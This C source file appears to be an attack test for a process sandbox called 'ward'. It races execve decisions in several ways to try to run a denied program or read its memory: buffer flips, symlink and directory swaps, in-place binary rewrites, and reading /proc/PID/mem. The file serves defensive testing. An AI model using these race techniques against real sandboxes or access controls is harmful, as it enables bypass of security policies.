/*
 * attack_exec_race MODE - change what execve runs after ward has decided.
 * DESIGN.md §2 invariant 4: exec is decided at the notification and
 * verified at PTRACE_EVENT_EXEC (/proc/PID/exe and cmdline); a mismatch
 * kills the process.  So every exec must run the allowed program, fail,
 * or be killed: never run the denied one.
 *
 * The driver denies exec of bin/mycat (a copy of /bin/cat); bin/okcat is
 * made here as a symlink to /bin/true.  Every exec passes public/x as an
 * argument: PUBLIC-CONTENT in the output means bin/mycat ran.
 *
 *   path        a thread flips the execve path buffer between bin/okcat
 *               and bin/mycat (one 8-byte store) while the main thread
 *               calls execve in a loop
 *   argv        the same with argv[1] of `ld.so /abs/bin/PROG public/x` (the
 *               loader is judged on PROG, read from argv; an absolute path
 *               without symlinks, as ward wants it): PROG flipped between
 *               nycat (a copy of /usr/bin/true) and mycat, one byte apart
 *   loaderlink  a thread swaps the symlink bin/lnk between /bin/true and
 *               mycat while children exec `ld.so bin/lnk public/x`: ward
 *               judges the link when it decides, ld.so opens it later
 *   rewrite     a thread rewrites bin/prog in place (same file), between a
 *               copy of /bin/true and a copy of ld.so, while children exec
 *               `bin/prog bin/mycat public/x`: judged as true, run as the
 *               loader, mycat would run
 *   interplink  a thread swaps the symlink bin/ilnk between bin/okint and
 *               bin/badint (tiny static programs; the driver denies exec
 *               of bin/badint, which prints PUBLIC-CONTENT) while children
 *               exec bin/imain, whose ELF interpreter is /abs/bin/ilnk:
 *               ward judges the interpreter when it decides, the kernel
 *               opens it later
 *   dirswap     a thread renames directory d away and puts a symlink to e
 *               in its place, and back, while children exec
 *               `ld.so /abs/d/prog public/x`: d/prog is a copy of true, e/prog
 *               of cat (the driver denies exec of e/); the path had no
 *               symlink when ward judged it, ld.so opens it later
 *   memrace     the program secret/prog (made by the driver: it holds the
 *               secret; read and exec denied) is reached through a symlink
 *               flipped between it and bin/okprog while children exec it:
 *               when the kernel has mapped secret/prog, ward kills the child
 *               at its exec event, but meanwhile this process reads the
 *               mapping through /proc/CHILD/mem
 *
 * `attack_exec_race mkprog FILE TEXT` (outside ward) writes a program
 * holding TEXT, which writes it and waits until killed.
 */
#include "attack.h"

#include <pthread.h>

#define LDSO "/lib64/ld-linux-x86-64.so.2"

static union {
	char s[4200];
	uint64_t w[525];
} buf __attribute__((aligned(16)));
static uint64_t w_ok, w_bad;
static size_t flip_word; /* the word of buf that differs between the two */
static volatile int stop;

static void *flipper(void *arg)
{
	(void)arg;
	for (unsigned long n = 0;; n++) {
		__atomic_store_n(&buf.w[flip_word], (n & 1) ? w_bad : w_ok, __ATOMIC_RELAXED);
		for (volatile unsigned i = 0; i < ((n * 2654435761u) >> 26); i++)
			;
	}
	return NULL;
}

static const char *mode;
static char dprog[4200]; /* dirswap: /abs/d/prog */

/* memrace: in the parent, watch child c's maps for secret/prog and read that mapping. */
static int read_child_secret(pid_t c, char *out, size_t len)
{
	char path[64], maps[16384];
	snprintf(path, sizeof(path), "/proc/%d/maps", c);
	for (int tries = 0; tries < 2000; tries++) {
		ssize_t n = slurp(path, maps, sizeof(maps));
		if (n <= 0)
			return -1; /* gone */
		char *line = strstr(maps, "secret/prog");
		if (line == NULL)
			continue;
		while (line > maps && line[-1] != '\n')
			line--;
		unsigned long start = strtoul(line, NULL, 16);
		snprintf(path, sizeof(path), "/proc/%d/mem", c);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			return -errno;
		ssize_t got = pread(fd, out, len - 1, (off_t)start);
		close(fd);
		if (got <= 0)
			return -1;
		for (ssize_t i = 0; i < got; i++)
			if (out[i] == '\0')
				out[i] = ' ';
		out[got] = '\0';
		return 1;
	}
	return 0;
}

/* In a child: flip (path, argv modes) and exec until an exec happens. */
static void child_exec(void *arg)
{
	extern char **environ;
	pthread_t t;
	(void)arg;

	if ((strcmp(mode, "path") == 0 || strcmp(mode, "argv") == 0) &&
	    pthread_create(&t, NULL, flipper, NULL) != 0)
		_exit(90);
	int e = 0;
	for (int i = 0; i < 200; i++) {
		if (strcmp(mode, "path") == 0)
			execve(buf.s, (char *[]){ "x", PUBLIC, NULL }, environ);
		else if (strcmp(mode, "argv") == 0)
			execve(LDSO, (char *[]){ LDSO, buf.s, PUBLIC, NULL }, environ);
		else if (strcmp(mode, "rewrite") == 0)
			execve("bin/prog", (char *[]){ "bin/prog", "bin/mycat", PUBLIC, NULL }, environ);
		else if (strcmp(mode, "interplink") == 0)
			execve("bin/imain", (char *[]){ "imain", NULL }, environ);
		else if (strcmp(mode, "dirswap") == 0)
			execve(LDSO, (char *[]){ LDSO, dprog, PUBLIC, NULL }, environ);
		else if (strcmp(mode, "memrace") == 0)
			execve("bin/lnk", (char *[]){ "lnk", NULL }, environ);
		else
			execve(LDSO, (char *[]){ LDSO, "bin/lnk", PUBLIC, NULL }, environ);
		e = errno;
	}
	_exit(e == EACCES ? 92 : 91); /* never got to exec: refused (92), or failed otherwise */
}

static char *true_bytes, *ld_bytes;
static size_t true_len, ld_len;

static char *slurp_all(const char *path, size_t *len)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	struct stat st;
	if (fd < 0 || fstat(fd, &st) < 0)
		setup_failed(path);
	char *b = malloc((size_t)st.st_size);
	if (b == NULL || read(fd, b, (size_t)st.st_size) != st.st_size)
		setup_failed(path);
	close(fd);
	*len = (size_t)st.st_size;
	return b;
}

/* Rewrite bin/prog in place, closing it each time (an exec fails while it is open for writing). */
static void *rewriter(void *arg)
{
	(void)arg;
	for (unsigned long n = 0; !stop; n++) {
		int fd = open("bin/prog", O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		const char *b = (n & 1) ? ld_bytes : true_bytes;
		size_t len = (n & 1) ? ld_len : true_len;
		if (pwrite(fd, b, len, 0) == (ssize_t)len && ftruncate(fd, (off_t)len) == 0) {
		}
		close(fd);
		for (volatile unsigned i = 0; i < ((n * 2654435761u) >> 22); i++)
			;
	}
	return NULL;
}

static const char *lnk = "bin/lnk", *lnk_ok = "/bin/true", *lnk_bad = "mycat";

/* dirswap: d, a directory, and a symlink to e in its place, in turn. */
static void *dirswapper(void *arg)
{
	(void)arg;
	for (unsigned long n = 0; !stop; n++) {
		if (rename("d", "d.real") == 0) {
			if (symlink("e", "d") == 0) {
				for (volatile unsigned i = 0; i < ((n * 2654435761u) >> 20); i++)
					;
				unlink("d");
			}
			rename("d.real", "d");
		}
		for (volatile unsigned i = 0; i < ((n * 2654435761u) >> 20); i++)
			;
	}
	return NULL;
}

static void *swapper(void *arg)
{
	char tmp[64];
	(void)arg;
	snprintf(tmp, sizeof(tmp), "%s.tmp", lnk);
	while (!stop) {
		unlink(tmp);
		if (symlink(lnk_ok, tmp) == 0)
			rename(tmp, lnk);
		unlink(tmp);
		if (symlink(lnk_bad, tmp) == 0)
			rename(tmp, lnk);
	}
	return NULL;
}

/*
 * memrace: children exec bin/lnk, flipped between bin/okprog and
 * ../secret/prog; for each, this process reads what the child mapped of
 * secret/prog through /proc/CHILD/mem before ward's kill lands.
 */
static int mem_race(void)
{
	pthread_t sw;
	unsigned long tries = 0, refused = 0, seen = 0;
	static char got[8192];

	tiny_file("bin/okprog", 0x20000000, NULL, "OK-RAN\n");
	if (symlink("okprog", "bin/lnk") < 0)
		setup_failed("symlink bin/lnk");
	lnk = "bin/lnk", lnk_ok = "okprog", lnk_bad = "../secret/prog";
	if (pthread_create(&sw, NULL, swapper, NULL) != 0)
		setup_failed("pthread_create");
	double end = now() + race_seconds();
	while (now() < end && !att_through) {
		int p[2];
		if (pipe2(p, O_CLOEXEC) < 0)
			setup_failed("pipe2");
		pid_t c = fork();
		if (c < 0)
			setup_failed("fork");
		if (c == 0) {
			char go;
			close(p[1]);
			if (read(p[0], &go, 1) != 1) /* the parent is watching: go */
				_exit(90);
			dup2(open("/dev/null", O_WRONLY), 1);
			execve("bin/lnk", (char *[]){ "lnk", NULL }, (char *[]){ NULL });
			_exit(91);
		}
		close(p[0]);
		if (write(p[1], "g", 1) != 1)
			setup_failed("write");
		close(p[1]);
		int rc = read_child_secret(c, got, sizeof(got));
		tries++;
		if (rc == -EACCES || rc == -EPERM)
			refused++;
		if (rc == 1 || rc == -EACCES || rc == -EPERM)
			seen++; /* secret/prog was mapped when looked at */
		if (rc == 1 && strstr(got, SECRET_PREFIX) != NULL) {
			att_through = 1;
			say("LEAK: memrace: the denied program's mapping read from /proc/CHILD/mem "
			    "(after %lu tries): %.200s", tries, strstr(got, SECRET_PREFIX));
		}
		kill(c, SIGKILL); /* secret/prog lingers, when it runs */
		while (waitpid(c, NULL, 0) < 0 && errno == EINTR)
			;
	}
	stop = 1;
	pthread_join(sw, NULL);
	say("note: %lu children, %lu had secret/prog mapped when looked at, %lu mem opens refused",
	    tries, seen, refused);
	/* In the window: a child seen with secret/prog mapped, before ward's kill. */
	race_done("memrace: /proc/CHILD/mem of secret/prog before ward's kill", tries, seen);
	return finish();
}

int main(int argc, char **argv)
{
	unsigned long tries = 0, ok = 0, killed = 0, failed = 0, refusals = 0, caught = 0, other = 0;
	pthread_t sw;

	mode = argc > 1 ? argv[1] : "path";
	if (strcmp(mode, "mkprog") == 0 && argc == 4) {
		/* It lingers (in pause) after its write: natively too its mapping can be read. */
		int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
		if (fd < 0 || write_tiny_elf_as(fd, 0x20000000, NULL, argv[3], 0, 1) < 0 || close(fd) < 0)
			setup_failed(argv[2]);
		return 0;
	}
	if (strcmp(mode, "path") != 0 && strcmp(mode, "argv") != 0 && strcmp(mode, "loaderlink") != 0 &&
	    strcmp(mode, "rewrite") != 0 && strcmp(mode, "interplink") != 0 &&
	    strcmp(mode, "dirswap") != 0 && strcmp(mode, "memrace") != 0) {
		errno = EINVAL;
		setup_failed(mode);
	}
	if (symlink("/bin/true", "bin/okcat") < 0)
		setup_failed("symlink bin/okcat");
	memset(&buf, 0, sizeof(buf));
	if (strcmp(mode, "argv") == 0) {
		/* /abs/bin/nycat and /abs/bin/mycat: one byte apart, in one word. */
		char cwd[4096], bad[4200];
		if (getcwd(cwd, sizeof(cwd)) == NULL)
			setup_failed("getcwd");
		size_t len;
		char *t = slurp_all("/usr/bin/true", &len);
		int fd = open("bin/nycat", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
		if (fd < 0 || write(fd, t, len) != (ssize_t)len || close(fd) < 0)
			setup_failed("bin/nycat, a copy of true");
		free(t);
		snprintf(buf.s, sizeof(buf.s), "%s/bin/nycat", cwd);
		snprintf(bad, sizeof(bad), "%s/bin/mycat", cwd);
		flip_word = (strlen(cwd) + 5) / 8;
		memcpy(&w_ok, buf.s + 8 * flip_word, 8);
		memcpy(&w_bad, bad + 8 * flip_word, 8);
	} else {
		memcpy(&w_ok, "bin/okcat", 8);
		memcpy(&w_bad, "bin/mycat", 8);
		memcpy(buf.s, "bin/okcat", 10);
	}
	if (strcmp(mode, "loaderlink") == 0) {
		if (symlink("/bin/true", "bin/lnk") < 0)
			setup_failed("symlink bin/lnk");
		if (pthread_create(&sw, NULL, swapper, NULL) != 0)
			setup_failed("pthread_create");
	}
	if (strcmp(mode, "interplink") == 0) {
		char cwd[4096], name[4200];
		if (getcwd(cwd, sizeof(cwd)) == NULL)
			setup_failed("getcwd");
		snprintf(name, sizeof(name), "%s/bin/ilnk", cwd);
		tiny_file("bin/okint", 0x20000000, NULL, "INTERP-OK\n");
		tiny_file("bin/badint", 0x20000000, NULL, PUBLIC_CONTENT "\n");
		tiny_file("bin/imain", 0x10000000, name, "MAIN-RAN\n");
		if (symlink("okint", "bin/ilnk") < 0)
			setup_failed("symlink bin/ilnk");
		lnk = "bin/ilnk", lnk_ok = "okint", lnk_bad = "badint";
		if (pthread_create(&sw, NULL, swapper, NULL) != 0)
			setup_failed("pthread_create");
	}
	if (strcmp(mode, "dirswap") == 0) {
		char cwd[4096];
		if (getcwd(cwd, sizeof(cwd)) == NULL)
			setup_failed("getcwd");
		snprintf(dprog, sizeof(dprog), "%s/d/prog", cwd);
		if (mkdir("d", 0755) < 0 || mkdir("e", 0755) < 0)
			setup_failed("mkdir d e");
		true_bytes = slurp_all("/usr/bin/true", &true_len);
		char *cat = slurp_all("/usr/bin/cat", &ld_len);
		int fd = open("d/prog", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
		int fe = open("e/prog", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
		if (fd < 0 || fe < 0 || write(fd, true_bytes, true_len) != (ssize_t)true_len ||
		    write(fe, cat, ld_len) != (ssize_t)ld_len)
			setup_failed("d/prog, e/prog");
		close(fd);
		close(fe);
		if (pthread_create(&sw, NULL, dirswapper, NULL) != 0)
			setup_failed("pthread_create");
	}
	if (strcmp(mode, "memrace") == 0)
		return mem_race();
	if (strcmp(mode, "rewrite") == 0) {
		true_bytes = slurp_all("/usr/bin/true", &true_len);
		ld_bytes = slurp_all(LDSO, &ld_len);
		int fd = open("bin/prog", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
		if (fd < 0 || write(fd, true_bytes, true_len) != (ssize_t)true_len)
			setup_failed("bin/prog");
		close(fd);
		if (pthread_create(&sw, NULL, rewriter, NULL) != 0)
			setup_failed("pthread_create");
	}

	/*
	 * race_seconds(), and on (four times as long at most) until both sides
	 * are met once: the window, and an allowed run (under load, with few
	 * tries, one of them can fail to come in race_seconds()).
	 */
	double end = now() + race_seconds(), last = now() + 4 * race_seconds();
	while ((now() < end ||
		((killed + caught == 0 || ok == 0) && refusals < tries && now() < last)) &&
	       !att_through) {
		char out[4096];
		int st = run_capture(child_exec, NULL, out, sizeof(out));
		tries++;
		if (strstr(out, PUBLIC_CONTENT) != NULL) {
			att_through = 1;
			say("LEAK: %s race: the denied program ran (%s, after %lu tries)", mode,
			    wstatus(st), tries);
		} else if (WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL) {
			killed++;
		} else if (WIFEXITED(st) && WEXITSTATUS(st) == 0) {
			ok++;
		} else if (WIFEXITED(st) && WEXITSTATUS(st) == 92) {
			refusals++;
		} else if (WIFEXITED(st) && WEXITSTATUS(st) == 91) {
			failed++;
		} else if (strstr(out, strerror(EACCES)) != NULL) {
			/* Exec'd, then the loader's own open of PROG refused: the name changed. */
			caught++;
		} else {
			other++;
			if (other < 4)
				say("note: %s: %.200s", wstatus(st), out);
		}
	}
	stop = 1;
	if (strcmp(mode, "loaderlink") == 0 || strcmp(mode, "rewrite") == 0 ||
	    strcmp(mode, "interplink") == 0 || strcmp(mode, "dirswap") == 0)
		pthread_join(sw, NULL);
	say("note: %lu children: %lu ran the allowed program, %lu killed by ward, %lu refused (EACCES) "
	    "200 times, %lu whose loader's open was refused, %lu never exec'd otherwise, %lu other",
	    tries, ok, killed, refusals, caught, failed, other);
	/*
	 * Refused every time: ward does not let this kind of exec through at
	 * all (a loader's program by a path with a symlink, say), so there is
	 * no window to race for: stopped by the policy.
	 */
	if (!att_through && refusals == tries && tries > 0) {
		blocked("%s: each of %lu tries refused (EACCES) before any race", mode, tries);
		return finish();
	}
	/*
	 * In the window: a child that ward let exec and then killed at the
	 * exec event, or whose loader ward refused the open of its program
	 * (what ran, or was opened, was not what it judged: the race was won
	 * at the decision and caught after it).  Both answers seen at least shows the
	 * flips met the execs.
	 */
	if (!att_through && (ok == 0 || killed + refusals + caught == 0))
		missed("%s race was one-sided: %lu allowed runs, %lu refused or killed", mode, ok,
		       killed + refusals + caught);
	race_done(mode, tries, killed + caught);
	return finish();
}
